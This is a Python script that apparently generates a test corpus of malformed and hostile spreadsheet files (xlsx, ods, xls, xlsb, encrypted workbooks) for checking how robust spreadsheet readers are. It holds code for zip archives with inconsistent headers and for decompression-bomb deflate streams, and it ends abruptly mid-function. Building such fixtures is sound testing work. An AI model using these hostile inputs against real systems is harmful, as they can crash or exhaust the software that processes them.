#!/usr/bin/env python3
"""Build a corpus of odd, broken and hostile spreadsheets.

    python make_corpus.py --out DIR [--only ID[,ID...]] [--list]

Every file carries the same small vacancy table (five rows) in a different
encoding or layout, or a defect, or an attack of bounded size. ``manifest.json``
in DIR says what a robust reader is expected to do with each file. Standard
library only; the same interpreter always writes the same bytes.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
import re
import struct
import sys
import zlib
from pathlib import Path

GENERATOR = "corpus de planilhas"
FORMAT = "xl_cotas-corpus/1"

HEADER = ["Cargo", "Total de vagas", "Ampla concorrência", "Negros", "PcD"]
ROWS = [
    ["Analista Judiciário", 20, 13, 6, 1],
    ["Técnico Administrativo", 40, 26, 12, 2],
    ["Médico do Trabalho", 3, 2, 1, 0],
    ["Agente de Polícia", 100, 65, 30, 5],
    ["Assistente Social", 10, 6, 3, 1],
]
TABLE = [HEADER] + ROWS

# --------------------------------------------------------------------------
# Building blocks: zip, OOXML, ODF, BIFF and CFB writers that can also write
# what no ordinary library would.
# --------------------------------------------------------------------------


class RawZip:
    """Minimal zip writer whose headers may disagree with its contents."""

    def __init__(self, prefix: bytes = b"") -> None:
        self.buf = bytearray(prefix)
        self.base = 0  # value subtracted from offsets (junk before the archive)
        self.cd: list[bytes] = []
        self.count = 0

    def add(
        self,
        name: str | bytes,
        data: bytes = b"",
        *,
        deflate: bool = False,
        raw: tuple[bytes, int, int] | None = None,
        usize: int | None = None,
        crc: int | None = None,
        flags: int = 0x0800,
        descriptor: bool = False,
        zip64: bool = False,
        cd_name: str | bytes | None = None,
        offset: int | None = None,
        method: int | None = None,
        external_attr: int = 0,
    ) -> int:
        """Add a member; ``raw`` = (deflated bytes, crc, real size)."""
        bname = name.encode("utf-8") if isinstance(name, str) else name
        if raw is not None:
            comp, real_crc, real_size = raw
            meth = 8
        else:
            real_crc, real_size = zlib.crc32(data) & 0xFFFFFFFF, len(data)
            if deflate:
                c = zlib.compressobj(9, zlib.DEFLATED, -15)
                comp, meth = c.compress(data) + c.flush(), 8
            else:
                comp, meth = data, 0
        if method is not None:
            meth = method
        crc = real_crc if crc is None else crc
        size = real_size if usize is None else usize
        csize = len(comp)
        if size > 0xFFFFFFFE or csize > 0xFFFFFFFE:
            zip64 = True
        if descriptor:
            flags |= 0x0008
        off = len(self.buf) - self.base
        extra = struct.pack("<HHQQ", 1, 16, size, csize) if zip64 else b""
        s32 = 0xFFFFFFFF if zip64 else size
        c32 = 0xFFFFFFFF if zip64 else csize
        hdr_vals = (0, 0, 0) if descriptor and not zip64 else (crc, c32, s32)
        if descriptor and zip64:
            hdr_vals = (0, 0xFFFFFFFF, 0xFFFFFFFF)
            extra = struct.pack("<HHQQ", 1, 16, 0, 0)
        self.buf += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            45 if zip64 else 20,
            flags,
            meth,
            0,
            0x0021,
            *hdr_vals,
            len(bname),
            len(extra),
        )
        self.buf += bname + extra + comp
        if descriptor:
            fmt = "<4sIQQ" if zip64 else "<4sIII"
            self.buf += struct.pack(fmt, b"PK\x07\x08", crc, csize, size)
        cname = bname if cd_name is None else (cd_name.encode("utf-8") if isinstance(cd_name, str) else cd_name)
        self._central(cname, crc, csize, size, flags, meth, zip64, off if offset is None else offset, external_attr)
        return off

    def _central(self, name, crc, csize, size, flags, meth, zip64, off, attr=0):
        extra = struct.pack("<HHQQ", 1, 16, size, csize) if zip64 else b""
        self.cd.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                45,
                45 if zip64 else 20,
                flags,
                meth,
                0,
                0x0021,
                crc,
                0xFFFFFFFF if zip64 else csize,
                0xFFFFFFFF if zip64 else size,
                len(name),
                len(extra),
                0,
                0,
                0,
                attr,
                off,
            )
            + name
            + extra
        )
        self.count += 1

    def finish(self, *, zip64_end: bool = False, comment: bytes = b"") -> bytes:
        cd = b"".join(self.cd)
        start = len(self.buf) - self.base
        self.buf += cd
        n = self.count
        if zip64_end or n > 0xFFFE:
            z = len(self.buf) - self.base
            self.buf += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, len(cd), start)
            self.buf += struct.pack("<4sIQI", b"PK\x06\x07", 0, z, 1)
        n16 = min(n, 0xFFFF)
        self.buf += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n16, n16, len(cd), start, len(comment)) + comment
        return bytes(self.buf)


def zip_parts(parts: dict[str, bytes], **kw) -> bytes:
    z = RawZip()
    for name, data in parts.items():
        z.add(name, data, **kw)
    return z.finish()


def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def crc_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B), len(B)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = [_gf2_times(odd, m) for m in odd]
    odd = [_gf2_times(even, m) for m in even]
    while True:
        even = [_gf2_times(odd, m) for m in odd]
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = [_gf2_times(even, m) for m in even]
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def repeated(prefix: bytes, unit: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """Deflate stream of prefix + unit*times + suffix, without building it."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = c.compress(suffix) + c.flush()
    crc = zlib.crc32(prefix)
    ucrc, ulen, rest = zlib.crc32(unit), len(unit), times
    acc_crc, acc_len, sq_crc, sq_len = 0, 0, ucrc, ulen
    while rest:
        if rest & 1:
            acc_crc = crc_combine(acc_crc, sq_crc, sq_len) if acc_len else sq_crc
            acc_len += sq_len
        rest >>= 1
        if rest:
            sq_crc = crc_combine(sq_crc, sq_crc, sq_len)
            sq_len *= 2
    crc = crc_combine(crc, acc_crc, acc_len)
    crc = crc_combine(crc, zlib.crc32(suffix), len(suffix))
    return (head + body * times + tail, crc & 0xFFFFFFFF, len(prefix) + ulen * times + len(suffix))


# ------------------------------------------------------------------ OOXML --

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
S_MAIN = "http://purl.oclc.org/ooxml/spreadsheetml/main"
S_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
CT_WB = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_WB_MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_SST = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
CT_STYLES = "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"

STYLES = (
    '<styleSheet xmlns="{ns}"><numFmts count="1"><numFmt numFmtId="164" '
    'formatCode="dd/mm/yyyy"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/>'
    '</border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" '
    'fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="3">'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" '
    'applyNumberFormat="1"/></cellXfs><cellStyles count="1"><cellStyle '
    'name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
)


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


class Raw:
    """A literal cell; ``{r}`` is replaced by the cell reference."""

    def __init__(self, xml: str) -> None:
        self.xml = xml


class Sst:
    def __init__(self) -> None:
        self.items: list[str] = []
        self.index: dict[str, int] = {}
        self.uses = 0

    def raw(self, key: str, xml: str) -> int:
        self.uses += 1
        if key not in self.index:
            self.index[key] = len(self.items)
            self.items.append(xml)
        return self.index[key]

    def get(self, text: str) -> int:
        return self.raw(text, f'<si><t xml:space="preserve">{esc(text)}</t></si>')

    def xml(self, ns: str = MAIN, count: str | None = None) -> bytes:
        n = count or str(len(self.items))
        return (
            XML + f'<sst xmlns="{ns}" count="{self.uses}" uniqueCount="{n}">' + "".join(self.items) + "</sst>"
        ).encode("utf-8")


def cell_xml(value, ref: str, mode: str, sst: Sst | None, style: int = 0, refs: bool = True) -> str:
    r = f' r="{ref}"' if refs else ""
    s = f' s="{style}"' if style else ""
    if value is None:
        return ""
    if isinstance(value, Raw):
        return value.xml.replace("{r}", ref)
    if isinstance(value, bool):
        return f'<c{r}{s} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f"<c{r}{s}><v>{value}</v></c>"
    if mode == "inline":
        return f'<c{r}{s} t="inlineStr"><is><t xml:space="preserve">{esc(value)}</t></is></c>'
    if mode == "str":
        return f'<c{r}{s} t="str"><v>{esc(value)}</v></c>'
    return f'<c{r}{s} t="s"><v>{sst.get(value)}</v></c>'


def sheet_data(rows, mode="sst", sst=None, refs=True, first_row=1) -> str:
    out = []
    for i, row in enumerate(rows, first_row):
        cells = "".join(
            cell_xml(v, f"{col(j)}{i}", mode, sst, 1 if i == first_row else 0, refs) for j, v in enumerate(row, 1)
        )
        out.append(f'<row r="{i}">{cells}</row>' if refs else f"<row>{cells}</row>")
    return "<sheetData>" + "".join(out) + "</sheetData>"


def worksheet(
    data: str, dim: str | None = None, ns: str = MAIN, before: str = "", after: str = "", attrs: str = ""
) -> bytes:
    d = f'<dimension ref="{dim}"/>' if dim else ""
    return (
        XML + f'<worksheet xmlns="{ns}" xmlns:r="{S_REL if ns == S_MAIN else REL}"'
        f"{attrs}>{d}{before}{data}{after}</worksheet>"
    ).encode("utf-8")


def rels(entries: list[tuple[str, str, str]], extra: str = "") -> bytes:
    body = "".join(f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>' for i, t, g in entries)
    return (XML + f'<Relationships xmlns="{PKG}">{body}{extra}</Relationships>').encode("utf-8")


def xlsx_parts(
    sheets,
    *,
    sst: Sst | None = None,
    styles: bytes | None = b"default",
    wb_pr: str = "",
    after_sheets: str = "",
    strict: bool = False,
    ct_extra: str = "",
    rel_extra: str = "",
    wb_ct: str = CT_WB,
    doc_props: bool = True,
) -> dict[str, bytes]:
    """``sheets``: list of (name, worksheet bytes[, state])."""
    ns, rel = (S_MAIN, S_REL) if strict else (MAIN, REL)
    ct = [
        f'<Types xmlns="{CT}"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/>',
        f'<Override PartName="/xl/workbook.xml" ContentType="{wb_ct}"/>',
    ]
    wb = [f'<workbook xmlns="{ns}" xmlns:r="{rel}"' + (' conformance="strict"' if strict else "") + f">{wb_pr}<sheets>"]
    wr = []
    parts: dict[str, bytes] = {
        "[Content_Types].xml": b"",
        "_rels/.rels": b"",
        "xl/workbook.xml": b"",
        "xl/_rels/workbook.xml.rels": b"",
    }
    for n, sh in enumerate(sheets, 1):
        name, data, *state = sh
        st = f' state="{state[0]}"' if state and state[0] else ""
        wb.append(f'<sheet name="{esc(name)}" sheetId="{n}"{st} r:id="rId{n}"/>')
        wr.append((f"rId{n}", rel + "/worksheet", f"worksheets/sheet{n}.xml"))
        ct.append(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{CT_SHEET}"/>')
        parts[f"xl/worksheets/sheet{n}.xml"] = data
    wb.append(f"</sheets>{after_sheets}</workbook>")
    if styles is not None:
        parts["xl/styles.xml"] = (XML + STYLES.replace("{ns}", ns)).encode() if styles == b"default" else styles
        wr.append(("rIdSt", rel + "/styles", "styles.xml"))
        ct.append(f'<Override PartName="/xl/styles.xml" ContentType="{CT_STYLES}"/>')
    if sst is not None:
        parts["xl/sharedStrings.xml"] = sst.xml(ns)
        wr.append(("rIdSs", rel + "/sharedStrings", "sharedStrings.xml"))
        ct.append(f'<Override PartName="/xl/sharedStrings.xml" ContentType="{CT_SST}"/>')
    root = [("rId1", rel + "/officeDocument", "xl/workbook.xml")]
    if doc_props:
        parts["docProps/app.xml"] = (
            XML + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/'
            '2006/extended-properties"><Application>Microsoft Excel</Application>'
            "</Properties>"
        ).encode()
        ct.append(
            '<Override PartName="/docProps/app.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.extended-properties+xml"/>'
        )
        root.append(("rId2", REL + "/extended-properties", "docProps/app.xml"))
    parts["[Content_Types].xml"] = (XML + "".join(ct) + ct_extra + "</Types>").encode()
    parts["_rels/.rels"] = rels(root)
    parts["xl/workbook.xml"] = (XML + "".join(wb)).encode("utf-8")
    parts["xl/_rels/workbook.xml.rels"] = rels(wr, rel_extra)
    return parts


def simple_parts(rows, mode="sst", name="Vagas", dim="auto", refs=True, after="", before="", **kw) -> dict[str, bytes]:
    sst = Sst() if mode == "sst" else None
    data = sheet_data(rows, mode, sst, refs)
    if dim == "auto":
        dim = f"A1:{col(max(len(r) for r in rows))}{len(rows)}"
    return xlsx_parts([(name, worksheet(data, dim, before=before, after=after))], sst=sst, **kw)


# -------------------------------------------------------------------- ODF --

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def ods_cell(v) -> str:
    if isinstance(v, Raw):
        return v.xml
    if v is None:
        return "<table:table-cell/>"
    if isinstance(v, (int, float)):
        return f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p></table:table-cell>'
    return f'<table:table-cell office:value-type="string"><text:p>{esc(v)}</text:p></table:table-cell>'


def ods_rows(rows, tail_cols: int = 0) -> str:
    t = f'<table:table-cell table:number-columns-repeated="{tail_cols}"/>' if tail_cols else ""
    return "".join("<table:table-row>" + "".join(map(ods_cell, r)) + t + "</table:table-row>" for r in rows)


def ods_file(
    body: str, name: str = "Vagas", doctype: str = "", raw_content: tuple[bytes, int, int] | None = None
) -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
        f'<office:document-content {ODF_NS} office:version="1.3">'
        f'<office:body><office:spreadsheet><table:table table:name="{esc(name)}">'
        f"{body}</table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    ).encode("utf-8")
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
        'vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
        '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    ).encode()
    z = RawZip()
    z.add("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    if raw_content:
        z.add("content.xml", raw=raw_content)
    else:
        z.add("content.xml", content, deflate=len(content) > 20000)
    z.add("META-INF/manifest.xml", manifest)
    return z.finish()


# -------------------------------------------------------------- CFB / BIFF --


def cfb(
    streams: dict[str, bytes], *, header_patch: dict[int, bytes] | None = None, fat_patch: dict[int, int] | None = None
) -> bytes:
    """Compound file (version 3). Keys may be 'Storage/Stream' paths."""
    tree: dict[str, dict] = {}
    for path in streams:
        node = tree
        for p in path.split("/")[:-1]:
            node = node.setdefault(p, {})
        node[path.split("/")[-1]] = {"": path}
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "child": -1, "right": -1, "path": None}]

    def walk(node, parent):
        names = sorted((k for k in node if k), key=lambda s: (len(s), s.upper()))
        ids = []
        for nm in names:
            sub = node[nm]
            leaf = "" in sub
            entries.append({"name": nm, "type": 2 if leaf else 1, "child": -1, "right": -1, "path": sub.get("")})
            me = len(entries) - 1
            ids.append(me)
            if not leaf:
                walk(sub, me)
        for a, b in zip(ids, ids[1:]):
            entries[a]["right"] = b
        if ids:
            entries[parent]["child"] = ids[0]

    walk(tree, 0)
    sec = 512
    fat: list[int] = []
    body = bytearray()

    def chain(data: bytes) -> int:
        if not data:
            return 0xFFFFFFFE
        n = -(-len(data) // sec)
        start = len(fat)
        fat.extend(list(range(start + 1, start + n)) + [0xFFFFFFFE])
        body.extend(data.ljust(n * sec, b"\0"))
        return start

    mini, minifat = bytearray(), []
    for e in entries:
        if e["path"] is None:
            e["start"], e["size"] = (0 if e["type"] == 1 else 0xFFFFFFFE), 0
            continue
        data = streams[e["path"]]
        e["size"] = len(data)
        if len(data) >= 4096 or not data:
            e["start"] = chain(data)
        else:
            n = -(-len(data) // 64)
            e["start"] = len(minifat)
            minifat.extend(list(range(len(minifat) + 1, len(minifat) + n)) + [0xFFFFFFFE])
            mini.extend(data.ljust(n * 64, b"\0"))
    if mini:
        entries[0]["start"], entries[0]["size"] = chain(bytes(mini)), len(mini)
    mf_start, mf_n = 0xFFFFFFFE, 0
    if minifat:
        mf = struct.pack(f"<{len(minifat)}I", *minifat)
        mf = mf.ljust(-(-len(mf) // sec) * sec, b"\xff")
        mf_start, mf_n = chain(mf), len(mf) // sec
    d = bytearray()
    for e in entries:
        nm = e["name"].encode("utf-16-le") + b"\0\0"
        d += nm.ljust(64, b"\0") + struct.pack(
            "<HBBiii16sIQQIQ",
            len(nm),
            e["type"],
            1,
            -1,
            e["right"],
            e["child"],
            b"\0" * 16,
            0,
            0,
            0,
            e["start"] & 0xFFFFFFFF,
            e["size"],
        )
    while len(d) % sec:
        d += b"\0" * 64 + struct.pack("<HBBiii16sIQQIQ", 0, 0, 0, -1, -1, -1, b"\0" * 16, 0, 0, 0, 0, 0)
    dir_start = chain(bytes(d))
    nfat = 1
    while (len(fat) + nfat) > nfat * 128:
        nfat += 1
    fat_ids = list(range(len(fat), len(fat) + nfat))
    fat.extend([0xFFFFFFFD] * nfat)
    for k, v in (fat_patch or {}).items():
        fat[k] = v
    ft = struct.pack(f"<{len(fat)}I", *fat).ljust(nfat * sec, b"\xff")
    hdr = bytearray(
        struct.pack(
            "<8s16sHHHHH6sIIIIIIIIII",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"\0" * 16,
            0x3E,
            3,
            0xFFFE,
            9,
            6,
            b"\0" * 6,
            0,
            nfat,
            dir_start,
            0,
            4096,
            mf_start,
            mf_n,
            0xFFFFFFFE,
            0,
            0,
        )[:76]
    )
    hdr += struct.pack("<109I", *(fat_ids + [0xFFFFFFFF] * (109 - nfat)))
    for off, val in (header_patch or {}).items():
        hdr[off : off + len(val)] = val
    return bytes(hdr[:512]) + bytes(body) + ft


def rec(op: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", op, len(data)) + data


def ustr(s: str, lenfmt: str = "<H") -> bytes:
    try:
        b = s.encode("latin-1")
        return struct.pack(lenfmt, len(s)) + b"\0" + b
    except UnicodeEncodeError:
        return struct.pack(lenfmt, len(s)) + b"\1" + s.encode("utf-16-le")


def biff8_stream(
    rows,
    name: str = "Vagas",
    *,
    numbers: str = "number",
    dim_rows: int | None = None,
    filepass: bool = False,
    split_sst: bool = False,
    extra_cells: bytes = b"",
    label_records: bool = False,
) -> bytes:
    strings: list[str] = []
    total = 0
    for r in rows:
        for v in r:
            if isinstance(v, str):
                total += 1
                if v not in strings:
                    strings.append(v)

    def bof(kind: int) -> bytes:
        return rec(0x809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0x41, 6))

    font = rec(0x31, struct.pack("<HHHHHBBBB", 200, 0, 0x7FFF, 400, 0, 0, 0, 0, 0) + ustr("Arial", "<B"))
    g = bof(5)
    if filepass:
        g += rec(0x2F, struct.pack("<HHH", 1, 1, 1) + bytes(range(48)))
    g += (
        rec(0x42, struct.pack("<H", 1200))
        + rec(0x3D, struct.pack("<9H", 0, 0, 0x3000, 0x2000, 0x38, 0, 0, 1, 0x258))
        + rec(0x22, b"\0\0")
    )
    g += font * 5
    style_xf = rec(0xE0, struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5, 0x20, 0, 0, 0, 0, 0, 0x20C0))
    cell_xf = rec(0xE0, struct.pack("<HHHBBBBIIH", 0, 0, 0x0001, 0x20, 0, 0, 0, 0, 0, 0x20C0))
    g += style_xf * 15 + cell_xf + rec(0x293, b"\x00\x80\x00\xff")
    sst_body = struct.pack("<II", total, len(strings))
    if not split_sst:
        sst = rec(0xFC, sst_body + b"".join(ustr(s) for s in strings))
    else:
        # cut inside the first string; the CONTINUE record restarts with its own
        # flag byte and switches from 8-bit to 16-bit characters
        first = strings[0]
        cut = len(first) // 2
        a = sst_body + struct.pack("<H", len(first)) + b"\0" + first[:cut].encode("latin-1")
        b = b"\1" + first[cut:].encode("utf-16-le") + b"".join(ustr(s) for s in strings[1:])
        sst = rec(0xFC, a) + rec(0x3C, b)
    nm = ustr(name, "<B")
    bs_len = 4 + 6 + len(nm)
    off = len(g) + bs_len + len(sst) + 4
    g += rec(0x85, struct.pack("<IBB", off, 0, 0) + nm) + sst + rec(0x0A)
    s = bof(0x10)
    ncols = max(len(r) for r in rows)
    s += rec(0x200, struct.pack("<IIHHH", 0, len(rows) if dim_rows is None else dim_rows, 0, ncols, 0))
    for i, r in enumerate(rows):
        if numbers == "mulrk" and i:
            nums = [v for v in r[1:]]
            s += rec(0xFD, struct.pack("<HHHI", i, 0, 15, strings.index(r[0])))
            body = b"".join(struct.pack("<HI", 15, ((int(v) << 2) | 2) & 0xFFFFFFFF) for v in nums)
            s += rec(0xBD, struct.pack("<HH", i, 1) + body + struct.pack("<H", len(nums)))
            continue
        for j, v in enumerate(r):
            if v is None:
                continue
            if isinstance(v, str):
                if label_records:
                    s += rec(0x204, struct.pack("<HHH", i, j, 15) + ustr(v))
                else:
                    s += rec(0xFD, struct.pack("<HHHI", i, j, 15, strings.index(v)))
            else:
                s += rec(0x203, struct.pack("<HHHd", i, j, 15, float(v)))
    s += extra_cells
    s += rec(0x23E, struct.pack("<HHHIHHI", 0x6B6, 0, 0, 0x40, 0, 0, 0)) + rec(0x0A)
    out = g + s
    return out.ljust(max(4096, -(-len(out) // 512) * 512), b"\0")


def biff8(rows, **kw) -> bytes:
    return cfb({"Workbook": biff8_stream(rows, **kw)})


# -------------------------------------------------- AES (Office encryption) --


def _aes_tables():
    sbox, p, q = [0] * 256, 1, 1
    while True:
        p = p ^ ((p << 1) & 0xFF) ^ (0x1B if p & 0x80 else 0)
        q ^= q << 1
        q ^= q << 2
        q ^= q << 4
        q &= 0xFF
        if q & 0x80:
            q ^= 0x09
        x = q ^ _rl8(q, 1) ^ _rl8(q, 2) ^ _rl8(q, 3) ^ _rl8(q, 4)
        sbox[p] = (x ^ 0x63) & 0xFF
        if p == 1:
            break
    sbox[0] = 0x63
    return sbox


def _rl8(x, n):
    return ((x << n) | (x >> (8 - n))) & 0xFF


def aes128_ecb(key: bytes, data: bytes) -> bytes:
    sb = _aes_tables()
    xt = [((i << 1) ^ (0x1B if i & 0x80 else 0)) & 0xFF for i in range(256)]
    w = [list(key[i : i + 4]) for i in range(0, 16, 4)]
    rc = 1
    for i in range(4, 44):
        t = list(w[i - 1])
        if i % 4 == 0:
            t = [sb[b] for b in t[1:] + t[:1]]
            t[0] ^= rc
            rc = xt[rc]
        w.append([a ^ b for a, b in zip(w[i - 4], t)])
    rk = [sum(w[i : i + 4], []) for i in range(0, 44, 4)]
    out = bytearray()
    for o in range(0, len(data), 16):
        s = [a ^ b for a, b in zip(data[o : o + 16], rk[0])]
        for rnd in range(1, 11):
            s = [sb[b] for b in s]
            s = [s[(i + 4 * (i % 4)) % 16] for i in range(16)]
            if rnd < 10:
                n = []
                for c in range(0, 16, 4):
                    a = s[c : c + 4]
                    t = a[0] ^ a[1] ^ a[2] ^ a[3]
                    n += [a[k] ^ t ^ xt[a[k] ^ a[(k + 1) % 4]] for k in range(4)]
                s = n
            s = [a ^ b for a, b in zip(s, rk[rnd])]
        out += bytes(s)
    return bytes(out)


def encrypt_ooxml(package: bytes, password: str) -> bytes:
    """ECMA-376 standard encryption (AES-128, SHA-1), as Excel 2007 writes it."""
    import hashlib

    salt = bytes(range(16))
    h = hashlib.sha1(salt + password.encode("utf-16-le")).digest()
    for i in range(50000):
        h = hashlib.sha1(struct.pack("<I", i) + h).digest()
    h = hashlib.sha1(h + b"\0\0\0\0").digest()
    # XOR of the 0x36 pad with the hash, zero-extended to 64 bytes
    pad = bytearray(b"\x36" * 64)
    for i, b in enumerate(h):
        pad[i] ^= b
    x1 = hashlib.sha1(bytes(pad)).digest()
    key = x1[:16]
    verifier = bytes(range(100, 116))
    vh = hashlib.sha1(verifier).digest().ljust(32, b"\0")
    csp = "Microsoft Enhanced RSA and AES Cryptographic Provider\0".encode("utf-16-le")
    hdr = struct.pack("<IIIIIIII", 0x24, 0, 0x660E, 0x8004, 128, 0x18, 0, 0) + csp
    info = (
        struct.pack("<HHI", 3, 2, 0x24)
        + struct.pack("<I", len(hdr))
        + hdr
        + struct.pack("<I", 16)
        + salt
        + aes128_ecb(key, verifier)
        + struct.pack("<I", 20)
        + aes128_ecb(key, vh)
    )
    body = package.ljust(-(-len(package) // 16) * 16, b"\0")
    enc = struct.pack("<Q", len(package)) + aes128_ecb(key, body)
    return cfb({"EncryptionInfo": info, "EncryptedPackage": enc})


# ------------------------------------------------------------------- XLSB --


def brec(op: int, data: bytes = b"") -> bytes:
    o = bytes([op]) if op < 0x80 else bytes([(op & 0x7F) | 0x80, op >> 7])
    n, ln = len(data), b""
    while True:
        b = n & 0x7F
        n >>= 7
        ln += bytes([b | (0x80 if n else 0)])
        if not n:
            break
    return o + ln + data


def wstr(s: str) -> bytes:
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


def xlsb_file(
    rows,
    name="Vagas",
    *,
    dim: tuple[int, int, int, int] | None = None,
    sst_unique: int | None = None,
    extra_rows: bytes = b"",
) -> bytes:
    strings: list[str] = []
    body = b""
    for i, r in enumerate(rows):
        body += brec(0, struct.pack("<IIHBBBI", i, 0, 300, 0, 0, 0, 1) + struct.pack("<II", 0, len(r) - 1))
        for j, v in enumerate(r):
            head = struct.pack("<II", j, 0)
            if isinstance(v, str):
                if v not in strings:
                    strings.append(v)
                body += brec(7, head + struct.pack("<I", strings.index(v)))
            elif v is not None:
                body += brec(5, head + struct.pack("<d", float(v)))
    d = dim or (0, len(rows) - 1, 0, max(map(len, rows)) - 1)
    sheet = brec(129) + brec(148, struct.pack("<IIII", *d)) + brec(145) + body + extra_rows + brec(146) + brec(130)
    n = len(strings)
    sst = (
        brec(159, struct.pack("<II", n, n if sst_unique is None else sst_unique))
        + b"".join(brec(19, b"\0" + wstr(s)) for s in strings)
        + brec(160)
    )
    wb = (
        brec(131)
        + brec(153, struct.pack("<II", 0, 0) + wstr(""))
        + brec(143)
        + brec(156, struct.pack("<II", 0, 1) + wstr("rId1") + wstr(name))
        + brec(144)
        + brec(132)
    )
    font = (
        struct.pack("<HHHHBBBB", 220, 0, 400, 0, 0, 2, 0, 0)
        + struct.pack("<BBhBBBBB", 0x07, 1, 0, 0, 0, 0, 0xFF, 2)
        + wstr("Calibri")
    )
    xf = struct.pack("<HHHHHBBHBB", 0xFFFF, 0, 0, 0, 0, 0, 0, 0x1010, 0, 0)
    styles = (
        brec(278)
        + brec(611, struct.pack("<I", 1))
        + brec(43, font)
        + brec(612)
        + brec(626, struct.pack("<I", 1))
        + brec(47, xf)
        + brec(627)
        + brec(617, struct.pack("<I", 1))
        + brec(47, b"\0\0" + xf[2:])
        + brec(618)
        + brec(279)
    )
    ct = (
        XML + f'<Types xmlns="{CT}"><Default Extension="bin" ContentType="application/'
        'vnd.ms-excel.sheet.binary.macroEnabled.main"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/'
        'vnd.ms-excel.worksheet"/><Override PartName="/xl/sharedStrings.bin" '
        'ContentType="application/vnd.ms-excel.sharedStrings"/><Override PartName='
        '"/xl/styles.bin" ContentType="application/vnd.ms-excel.styles"/></Types>'
    )
    return zip_parts(
        {
            "[Content_Types].xml": ct.encode(),
            "_rels/.rels": rels([("rId1", REL + "/officeDocument", "xl/workbook.bin")]),
            "xl/workbook.bin": wb,
            "xl/_rels/workbook.bin.rels": rels(
                [
                    ("rId1", REL + "/worksheet", "worksheets/sheet1.bin"),
                    ("rId2", REL + "/sharedStrings", "sharedStrings.bin"),
